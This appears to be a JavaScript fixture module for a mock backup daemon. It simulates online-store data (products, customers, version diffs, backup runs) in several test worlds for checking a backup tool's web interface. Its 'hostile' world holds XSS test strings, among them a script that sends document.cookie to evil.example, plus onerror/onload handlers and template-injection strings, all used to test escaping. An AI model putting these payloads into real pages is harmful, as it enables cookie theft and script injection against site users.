// What the mock daemon knows of its stores: worlds to look at. See mock_daemon.mjs.
//
//   empty    a store whose first backup has not run
//   normal   four content types, a deleted product, runs of every outcome
//   huge     normal, with 500,000 products, made up as they are asked for
//   hostile  normal, with markup, direction marks, megabyte texts and worse wherever a store may put text
//   many     normal and four more stores in every state

const kNow = Date.parse('2026-11-14T14:05:00Z');
export const iso = (minutesAgo) => new Date(kNow - minutesAgo * 60_000).toISOString();
export const kWorldNow = iso(0);
const kDay = 24 * 60;

const noise = (n) => ((n * 2654435761) >>> 0) / 2 ** 32;

const kTypes = [
  {
    type: 'products', label: 'Products', label_one: 'Product', group: 'Catalogue', title_label: 'Name',
    columns: [
      { field: 'sku', label: 'SKU', kind: 'text' },
      { field: 'price', label: 'Price', kind: 'money' },
      { field: 'is_visible', label: 'Visible', kind: 'yes_no' },
      { field: 'date_modified', label: 'Modified', kind: 'date' },
    ],
    restore_note: 'reviews lose the link to the shopper’s account',
  },
  { type: 'categories', label: 'Categories', label_one: 'Category', group: 'Catalogue', title_label: 'Name', columns: [{ field: 'parent_id', label: 'Parent', kind: 'number' }] },
  { type: 'category_trees', label: 'Category trees', label_one: 'Category tree', group: 'Catalogue', title_label: 'Name', columns: [] },
  { type: 'brands', label: 'Brands', label_one: 'Brand', group: 'Catalogue', title_label: 'Name', columns: [] },
  {
    type: 'customers', label: 'Customers', label_one: 'Customer', group: 'Customer', title_label: 'Name',
    columns: [{ field: 'email', label: 'E-mail', kind: 'text' }, { field: 'date_created', label: 'Since', kind: 'date' }],
    restore_note: 'passwords cannot be read, so they cannot be restored',
  },
  { type: 'redirects', label: '301 redirects', label_one: '301 redirect', group: 'Settings', title_label: 'From', columns: [{ field: 'to_url', label: 'To', kind: 'text' }] },
];
const kCounts = { products: 311, categories: 24, category_trees: 1, brands: 12, customers: 1204, redirects: 87 };

const kAdjectives = ['Waxed', 'Folding', 'Alpine', 'Recycled', 'Merino', 'Storm', 'Trail', 'Canvas', 'Titanium', 'Quilted'];
const kNouns = ['jacket', 'camp chair', 'tent peg set', 'daypack', 'base layer', 'headlamp', 'mug', 'bivvy bag', 'stove', 'compass'];
const kNames = ['Ada Byrne', 'Jürgen Weiß', 'Zoë Okafor', 'Łukasz Nowak', 'مريم الحسن', '佐藤 花子', 'Siobhán Doyle'];

const kHostile = [
  '<script>document.title="owned";fetch("https://evil.example/"+document.cookie)</script>',
  '<img src=x onerror="window.owned=1"><b>bold</b>',
  '"><svg onload=window.owned=1>',
  'javascript:window.owned=1',
  '\u202egnp.exe\u202c reversed \u2066isolate',
  'z\u200be\u200dr\u200co\ufeff width',
  '😀👩‍👩‍👧‍👦🏳️‍🌈 emoji',
  'مرحبا بالعالم שלום עולם',
  'W'.repeat(5000),
  `${'long words without end '.repeat(50_000)}END`,
  '&lt;not markup&gt; &amp;amp;',
  '',
  ' \n\t ',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '${alert(1)} {{constructor.constructor("window.owned=1")()}}',
];

function titleOf(type, n, isHostile) {
  if (isHostile && n <= kHostile.length) return kHostile[n - 1];
  if (type === 'customers') return kNames[n % kNames.length];
  if (type === 'brands') return `${kAdjectives[n % 10]} & Co`;
  if (type === 'redirects') return `/old/${kNouns[n % 10].replaceAll(' ', '-')}-${n}`;
  if (type === 'category_trees') return 'Default catalogue';
  if (type === 'categories') return `${kNouns[n % 10].charAt(0).toUpperCase()}${kNouns[n % 10].slice(1)}s`;
  return `${kAdjectives[n % 10]} ${kNouns[Math.floor(n / 10) % 10]} ${n}`;
}

function columnsOf(type, n, title) {
  const changed = new Date(kNow - Math.floor(noise(n) * 90 * kDay) * 60_000).toISOString();
  switch (type) {
    case 'products':
      return [`SKU-${String(n).padStart(5, '0')}`, `${5 + (n % 300)}.9900`, n % 7 === 0 ? 'false' : 'true', changed];
    case 'categories':
      return [n < 5 ? '0' : String(n % 5)];
    case 'customers':
      return [`customer${n}@example.com`, changed];
    case 'redirects':
      return [n % 5 === 0 ? null : `/new/${title.length}`];
    default:
      return [];
  }
}

const isGone = (type, n) => (type === 'products' && n % 40 === 13) || (type === 'customers' && n === 7);
// Product 7 has a long history.
const versionsOf = (type, n) => (type === 'products' && n === 7 ? 47 : 1 + (n % 4) + (isGone(type, n) ? 1 : 0));

function listed(world, type, n) {
  const isHostile = world.name === 'hostile';
  const title = titleOf(type, n, isHostile);
  const columns = columnsOf(type, n, title);
  if (isHostile && n <= kHostile.length && columns.length) columns[0] = kHostile[(n + 3) % kHostile.length].slice(0, 2000);
  const versions = versionsOf(type, n);
  return {
    id: type === 'redirects' && n % 10 === 0 ? `a/b?c=${n}&d` : String(n),
    title,
    labels: [title, ...(type === 'products' ? [columns[0], `GTIN${n}`] : [])],
    columns,
    gone: isGone(type, n),
    versions,
    first_at: iso(400 * kDay),
    last_at: iso(versions > 1 ? 3 + n * 17 : 400 * kDay),
  };
}

export function makeWorld(name = 'normal') {
  const counts = { ...kCounts };
  if (name === 'huge') counts.products = 500_000;
  if (name === 'empty') for (const type of Object.keys(counts)) counts[type] = 0;
  return { name, counts };
}

const of = (type) => kTypes.find((one) => one.type === type);

export function typesOf(world) {
  const isEmpty = world.name === 'empty';
  return {
    types: kTypes.map((type) => {
      const count = world.counts[type.type];
      const gone = type.type === 'products' ? Math.floor((count + 27) / 40) : type.type === 'customers' && count > 0 ? 1 : 0;
      const failing = !isEmpty && type.type === 'redirects';
      return {
        type: type.type,
        label: type.label,
        label_one: type.label_one,
        group: type.group,
        title_label: type.title_label,
        columns: type.columns,
        items: count - gone,
        gone,
        versions: Math.round(count * 1.4),
        recent_change_at: isEmpty ? null : iso(3 + type.label.length * 31),
        status: isEmpty ? 'never' : failing ? 'failing' : type.type === 'brands' ? 'late' : 'protected',
        message: failing ? 'The store answered 503 three times in a row; the next run tries again' : null,
        last_full_at: isEmpty ? null : iso(11 * 60),
        last_at: isEmpty ? null : iso(35),
        restorable: type.type !== 'category_trees',
        restore_note: type.restore_note ?? null,
      };
    }),
  };
}

/** Cursors are opaque to the page; here they are positions. */
export function itemsOf(world, query) {
  const { type, q = '', deleted = 'hide', sort = 'id', after } = query;
  const limit = Number(query.limit ?? 50);
  const count = world.counts[type] ?? 0;
  const matches = (item) =>
    (deleted === 'include' || item.gone === (deleted === 'only')) &&
    (q === '' || item.id === q || item.labels.some((label) => label.toLowerCase().startsWith(q.toLowerCase())));
  const items = [];
  let at = after === undefined ? 0 : Number(Buffer.from(after, 'base64url').toString());
  for (; at < count && items.length < limit; ++at) {
    const n = sort === '-id' ? count - at : at + 1;
    const item = listed(world, type, n);
    if (matches(item)) items.push(item);
  }
  return { items, next: at < count ? Buffer.from(String(at)).toString('base64url') : null };
}

function numberOf(world, type, id) {
  const n = Number(/\d+/.exec(id)?.[0] ?? 0);
  return n >= 1 && n <= (world.counts[type] ?? 0) && listed(world, type, n).id === id ? n : null;
}

export function itemOf(world, { type, id }) {
  const n = numberOf(world, type, id);
  if (n === null) return null;
  const item = listed(world, type, n);
  return {
    type,
    label_one: of(type).label_one,
    id,
    title: item.title,
    gone: item.gone,
    versions: item.versions,
    first_at: item.first_at,
    last_at: item.last_at,
    newest: item.gone ? item.versions - 1 : item.versions,
    restorable: true,
    restore_note: of(type).restore_note ?? null,
  };
}

const kChanges = [
  ['Price 19.99 → 17.50'],
  ['Description changed', 'Visible Yes → No', 'Categories: added 12'],
  ['Variants: 3 changed', 'Name “Waxed jacket” → “Waxed jacket, long”', 'Weight 1.2 → 1.25', 'Images: added 9041', 'Availability changed'],
];

export function versionsList(world, { type, id, before, limit = '20' }) {
  const n = numberOf(world, type, id);
  if (n === null) return null;
  const item = listed(world, type, n);
  const versions = [];
  let number = before === undefined ? item.versions : Math.min(item.versions, Number(before) - 1);
  for (; number >= 1 && versions.length < Number(limit); --number) {
    const gone = item.gone && number === item.versions;
    const changes = number === 1 || gone ? [] : world.name === 'hostile' ? kHostile.slice(0, 5).map((text) => `Name ${text.slice(0, 300)}`) : kChanges[number % 3];
    versions.push({
      version: number,
      at: number === item.versions ? item.last_at : iso(3 + n * 17 + (item.versions - number) * 2_117),
      source: number === 1 ? 'full' : 'incremental',
      run: '01JCN6Q8W0X4Y5Z6A7B8C9D0E1',
      gone,
      size: world.name === 'hostile' && n === 10 ? 1_300_000 : 2345 + number,
      changes,
      change_count: changes.length + (number % 3 === 2 ? 7 : 0),
    });
  }
  return { versions, next: number >= 1 ? number + 1 : null };
}

const kLongText =
  'Our waxed cotton jacket is made for days that cannot decide. Four pockets, two of them hidden; a collar that stands up to wind, and a hem that does not mind a saddle. Reproof it once a year and it outlives fashion.';

function value(text, raw = JSON.stringify(text)) {
  if (text === null) return null;
  return { text: text.slice(0, 2000), raw: raw.slice(0, 2000), length: text.length, cut: text.length > 2000 };
}

function fieldRows(world, type, n, from, to) {
  const row = (section, label, path, before, after, change) => ({ path, section, label, before, after, change: from === to ? 'same' : change });
  const title = titleOf(type, n, world.name === 'hostile');
  const price = (version) => `${(20 - version * 0.49).toFixed(2)}00`;
  const rows = [
    row('General', 'Name', 'name', value(title), value(title), 'same'),
    row('General', 'Price', 'price', value(price(from), price(from)), value(price(to), price(to)), 'changed'),
    row('General', 'Cost price', 'cost_price', value('10', '10'), value('10.0000', '10.0000'), 'same_number'),
    row('General', 'Description', 'description', value(kLongText.replace('hidden', 'concealed')), value(kLongText), 'changed'),
    row('General', 'Visible', 'is_visible', value('Yes', 'true'), value('Yes', 'true'), 'same'),
    row('General', 'Warranty', 'warranty', value('Two years'), from === to ? value('Two years') : null, 'removed'),
    row('General', 'Condition', 'condition', from === to ? value('New') : null, value('New'), 'added'),
    row('General', 'Empty', 'preorder_message', value(''), value(''), 'same'),
    row('General', 'Modified', 'date_modified', value('2026-11-01T09:00:00Z'), value('2026-11-14T14:02:00Z'), 'by_itself'),
  ];
  for (let i = 1; i <= 12; ++i) {
    rows.push(row('Variants', `Variant ${i}: SKU`, `variants[id=${i}].sku`, value(`SKU-${n}-${i}`), value(`SKU-${n}-${i}`), 'same'));
    rows.push(row('Variants', `Variant ${i}: price`, `variants[id=${i}].price`, value('19.99', '19.9900'), value(i === 3 ? '17.50' : '19.99'), i === 3 ? 'changed' : 'same'));
  }
  if (world.name === 'hostile') {
    kHostile.forEach((text, i) =>
      rows.push(row(`Custom <b>fields</b> \u202e`, `Field ${text.slice(0, 80)}`, `custom_fields[id=${i}]`, value(text), value(kHostile[(i + 1) % kHostile.length]), 'changed')),
    );
  }
  if (n === 3) {
    for (let i = 1; i <= 1990; ++i) rows.push(row('Metafields', `Metafield ${i}`, `metafields[id=${i}].value`, value(`v${i}`), value(`v${i}`), 'same'));
  }
  return rows;
}

export function compared(world, { type, id, from, to, changes_only }) {
  const n = numberOf(world, type, id);
  const most = n === null ? 0 : versionsOf(type, n);
  if (!(from >= 1 && from <= most && to >= 1 && to <= most)) return null;
  const all = fieldRows(world, type, n, Number(from), Number(to));
  const rows = changes_only === '1' ? all.filter((one) => one.change !== 'same') : all;
  const differs = (one) => ['added', 'removed', 'changed'].includes(one.change);
  return { from: Number(from), to: Number(to), rows, left_out: n === 3 ? 412 : 0, change_count: all.filter(differs).length };
}

export function sourceOf(world, { type, id, version, parts }) {
  const n = numberOf(world, type, id);
  if (n === null) return null;
  let text = `{"id":${n},"name":${JSON.stringify(titleOf(type, n, false))},"price":${20 - version * 0.49}00,"weight":1.2000,"big":12345678901234567890,"tiny":1E-07,"tags":[],"options":{},"custom_url":{"url":"\\/jacket\\/","is_customized":false},"sort_order":-0,"brand":null`;
  if (world.name === 'hostile') text += `,"hostile":[${kHostile.map((one) => JSON.stringify(one)).join(',')}]`;
  if (n === 2) text += `,"rows":[${Array.from({ length: 60_000 }, (_, i) => `{"n":${i},"text":"row ${i}"}`).join(',')}]`;
  text += '}';
  return parts === '1' ? `{"type":"${type}","id":"${n}","version":${version},"item":${text},"parts":{"metafields":[]}}` : text;
}

const kRunOutcomes = ['done', 'partial', 'done', 'failed', 'cancelled', 'done'];
const runId = (i) => `01JCN6Q8W0X4Y5Z6A7B8C9D${String(1000 + i)}`;

function runOf(i) {
  const outcome = i >= 6 ? 'done' : kRunOutcomes[i];
  const messages = {
    partial: '301 redirects failed: the store answered 503 three times in a row',
    failed: 'The store refused the access token (401): make a new one in the control panel and put it into the token file',
    cancelled: 'Cancelled; what was stored stays, and the next run goes on from there',
  };
  return {
    run: runId(i),
    kind: i % 5 === 2 ? 'full' : 'incremental',
    origin: i % 3 === 1 ? 'manual' : 'schedule',
    started_at: iso(35 + i * 720),
    ended_at: iso(35 + i * 720 - 3.4),
    outcome,
    message: messages[outcome] ?? null,
    versions: outcome === 'failed' ? 0 : (i * 37) % 212,
    problems: outcome === 'partial' ? 3 : outcome === 'failed' ? 1 : 0,
  };
}

export function runsList(world, { before, limit = '20' }) {
  if (world.name === 'empty') return { runs: [], next: null };
  const total = 61;
  const first = before === undefined ? 0 : Number(before.slice(-4)) - 1000 + 1;
  const runs = [];
  let i = first;
  for (; i < total && runs.length < Number(limit); ++i) runs.push(runOf(i));
  return { runs, next: i < total ? runs.at(-1).run : null };
}

export function runDetail(world, { run }) {
  const i = Number(run.slice(-4)) - 1000;
  if (world.name === 'empty' || !(i >= 0 && i < 61) || runId(i) !== run) return null;
  const one = runOf(i);
  const types = kTypes.map((type, k) => ({
    type: type.type,
    label: type.label,
    outcome: one.outcome === 'partial' && type.type === 'redirects' ? 'failed' : one.outcome === 'partial' && type.type === 'brands' ? 'braked' : one.outcome === 'failed' ? 'failed' : 'done',
    full: one.kind === 'full',
    complete: !(one.outcome === 'partial' && type.type === 'redirects'),
    seen: world.counts[type.type],
    added: k % 3 === 0 ? 4 : 0,
    changed: k % 2 === 0 ? 11 : 0,
    unchanged: Math.max(0, world.counts[type.type] - 15),
    returned: 0,
    gone: k === 0 ? 2 : 0,
    requests: 3 + k,
    started_at: one.started_at,
    ended_at: one.ended_at,
    message:
      one.outcome === 'partial' && type.type === 'redirects'
        ? 'The list could not be read to its end: the store answered 503 three times in a row'
        : one.outcome === 'partial' && type.type === 'brands'
          ? '9 of 12 brands are missing from the list: run “backstock backup --type brands --accept-deletions” if that is right'
          : one.outcome === 'failed'
            ? 'The store refused the access token'
            : null,
    problems: one.outcome === 'partial' && type.type === 'redirects' ? ['Redirect 14: the answer ended in the middle', world.name === 'hostile' ? kHostile[0] : 'Redirect 15: the answer ended in the middle'] : [],
  }));
  return { ...one, types };
}

function storeOf(world, over = {}) {
  const isEmpty = world.name === 'empty';
  const items = Object.values(world.counts).reduce((sum, n) => sum + n, 0);
  return {
    name: 'acme',
    title: world.name === 'hostile' ? kHostile[0] : 'Acme Outdoor',
    store_hash: 'a1b2c3d4e5',
    domain: 'acme-outdoor.example',
    verdict: isEmpty
      ? { level: 'notice', text: 'Nothing is backed up yet. The first backup reads the whole store once.' }
      : { level: 'good', text: 'Your store is protected. The last backup was complete, 35 minutes ago.' },
    state: 'idle',
    sync: { state: 'active', reason: null },
    history_since: isEmpty ? null : iso(400 * kDay),
    recent_change_at: isEmpty ? null : iso(3),
    items,
    versions: Math.round(items * 1.4),
    pack_bytes: items * 900,
    last_run: isEmpty ? null : { run: runId(0), kind: 'incremental', outcome: 'done', started_at: iso(35), finished_at: iso(31.6), message: null },
    last_complete_at: isEmpty ? null : iso(31.6),
    next_run_at: iso(-25),
    running: null,
    waiting: 0,
    problems: [],
    ...over,
  };
}

export function runningNow(done = 120) {
  return {
    run: runId(99), kind: 'full', type: 'products', label: 'Products', phase: 'reading', type_number: 1, type_count: 6, done, total: 311,
    versions: Math.floor(done / 4), per_second: 42.4, seconds_left: 255, seconds_left_all: 1290, waiting_for_quota: false,
  };
}

export function statusOf(world) {
  const stores = [storeOf(world)];
  if (world.name === 'many') {
    stores.push(
      storeOf(world, { name: 'globex', title: 'Globex Kitchen', store_hash: 'globex77', verdict: { level: 'notice', text: 'Backed up, but 301 redirects could not be read.' }, sync: { state: 'late', reason: 'No backup for 26 hours; one was due every 12.' }, problems: ['301 redirects: the store answered 503 three times in a row.'] }),
      storeOf(world, { name: 'initech', title: null, store_hash: 'init3ch', verdict: { level: 'bad', text: 'The last backup failed: the store refused the access token.' }, sync: { state: 'failing', reason: 'The store refuses the access token.' }, problems: ['The store refuses the access token (401). Make a new API account in the control panel and put its token into /etc/backstock/initech.token.', 'No complete backup for 9 days.'] }),
      storeOf(world, { name: 'umbrella', title: 'Umbrella & Söhne', store_hash: 'umbr3lla', state: 'running', running: runningNow(), sync: { state: 'manual', reason: 'No schedule is set.' } }),
      storeOf(world, { name: 'broken', title: 'Broken', store_hash: 'br0k3n', state: 'unavailable', verdict: { level: 'bad', text: 'The backup of this store cannot be opened.' }, sync: { state: 'paused', reason: null }, last_run: null, last_complete_at: null, next_run_at: null, problems: ['The folder /var/lib/backstock/stores/br0k3n cannot be read: permission denied.'] }),
    );
  }
  return { version: '0.1.0', now: kWorldNow, stores };
}
